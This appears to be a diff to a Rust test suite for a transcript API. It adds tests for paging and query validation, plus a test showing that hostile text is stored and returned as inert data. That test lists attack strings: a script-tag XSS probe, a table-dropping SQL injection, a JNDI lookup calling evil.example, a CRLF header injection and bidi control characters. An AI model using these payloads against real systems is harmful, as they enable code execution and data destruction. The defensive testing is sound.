@@ -1,6 +1,6 @@
 //! Transcripts in their forms.
 
-use callweave_model::{AnalyzedCall, Transcript, enums::ArtifactState};
+use callweave_model::{AnalyzedCall, Transcript, Utterance, enums::ArtifactState};
 
 use crate::support::{Gateway, sample, spoken};
 
@@ -125,4 +125,115 @@ async fn a_transcript_without_utterances_is_its_text() {
     assert_eq!(text.text(), "Hello <b>");
     assert_eq!(text.header("x-content-type-options"), "nosniff");
     assert_eq!(gateway.get(&format!("{path}?format=vtt")).await.status, 406);
+}
+
+#[tokio::test]
+async fn case_036_two_hundred_thousand_phrases_are_read_page_by_page() {
+    const PHRASES: i32 = 200_000;
+    let said = |seq| Utterance {
+        seq,
+        text: format!("phrase {seq}"),
+        ..Utterance::default()
+    };
+    let mut call = sample("a", "2026-03-02T09:15:00Z");
+    call.transcript = Some(Transcript::of_utterances(
+        "a",
+        (0..PHRASES).map(said).collect(),
+    ));
+    let (gateway, path) = with_call(call).await;
+    let (mut after, mut next_seq, mut tags) = (String::new(), 0_i64, Vec::new());
+    loop {
+        let page = gateway.get(&format!("{path}?limit=10000{after}")).await;
+        tags.push(page.header("etag").to_owned());
+        let page = page.json();
+        assert_eq!(page["utterances_total"], PHRASES);
+        for utterance in page["utterances"].as_array().unwrap() {
+            assert_eq!(utterance["seq"], next_seq);
+            next_seq += 1;
+        }
+        match page["next_after"].as_i64() {
+            Some(place) => after = format!("&after={place}"),
+            None => break,
+        }
+    }
+    assert_eq!(next_seq, i64::from(PHRASES));
+    tags.sort_unstable();
+    tags.dedup();
+    assert_eq!(tags.len(), 20, "each page has its own tag");
+}
+
+/// Hostile text is data: it comes back letter for letter, as JSON and as text that no browser
+/// takes for anything else; and what was wrong with the documents is told.
+#[tokio::test]
+async fn case_038_hostile_text_is_stored_and_served_as_data() {
+    let hostile = [
+        "<script>alert(1)</script>",
+        "'; DROP TABLE calls; --",
+        "${jndi:ldap://evil.example/x}",
+        "\u{1b}[31mred",
+        "one\r\nSet-Cookie: two",
+        "\u{202e}back\u{2066}",
+    ];
+    let said = |(seq, text): (usize, &&str)| Utterance {
+        seq: i32::try_from(seq).unwrap(),
+        text: (*text).to_owned(),
+        ..Utterance::default()
+    };
+    let mut call = sample("a", "2026-03-02T09:15:00Z");
+    call.subject = Some(hostile.concat());
+    call.flags.insert("duplicate_keys".to_owned());
+    let utterances = hostile.iter().enumerate().map(said).collect();
+    call.transcript = Some(Transcript::of_utterances("a", utterances));
+    let (gateway, path) = with_call(call).await;
+    let answer = gateway.get(&path).await;
+    assert_eq!(answer.header("x-content-type-options"), "nosniff");
+    assert_eq!(answer.header("content-type"), "application/json");
+    let document = answer.json();
+    for (place, text) in hostile.iter().enumerate() {
+        assert_eq!(document["utterances"][place]["text"], *text);
+    }
+    let text = gateway.get(&format!("{path}?format=text")).await;
+    assert_eq!(text.header("content-type"), "text/plain; charset=utf-8");
+    assert_eq!(text.header("x-content-type-options"), "nosniff");
+    let call = gateway
+        .get(path.trim_end_matches("/transcript"))
+        .await
+        .json();
+    assert_eq!(call["subject"], hostile.concat());
+    assert_eq!(
+        call["_meta"]["flags"],
+        serde_json::json!(["duplicate_keys"])
+    );
+}
+
+#[tokio::test]
+async fn case_036_odd_pages_are_empty_or_refused() {
+    let (gateway, path) = with_call(spoken("a", "2026-03-02T09:15:00Z")).await;
+    let whole = gateway.get(&path).await.json();
+    assert_eq!(whole["next_after"], serde_json::Value::Null);
+    let total = whole["utterances_total"].as_u64().unwrap();
+    assert_eq!(whole["utterances"].as_array().unwrap().len() as u64, total);
+    let first = gateway.get(&format!("{path}?limit=1")).await.json();
+    assert_eq!(
+        (&first["next_after"], &first["utterances"][0]["seq"]),
+        (&0.into(), &0.into())
+    );
+    let beyond = gateway.get(&format!("{path}?after=99999999")).await.json();
+    assert_eq!(beyond["utterances"], serde_json::json!([]));
+    assert_eq!(beyond["utterances_total"], total);
+    for query in [
+        "limit=0",
+        "limit=10001",
+        "limit=-1",
+        "after=-1",
+        "format=text&limit=1",
+        "format=vtt&after=0",
+    ] {
+        let refused = gateway.get(&format!("{path}?{query}")).await;
+        assert_eq!(
+            (refused.status, refused.code().as_str()),
+            (400, "gateway.invalid_query"),
+            "{query}"
+        );
+    }
 }
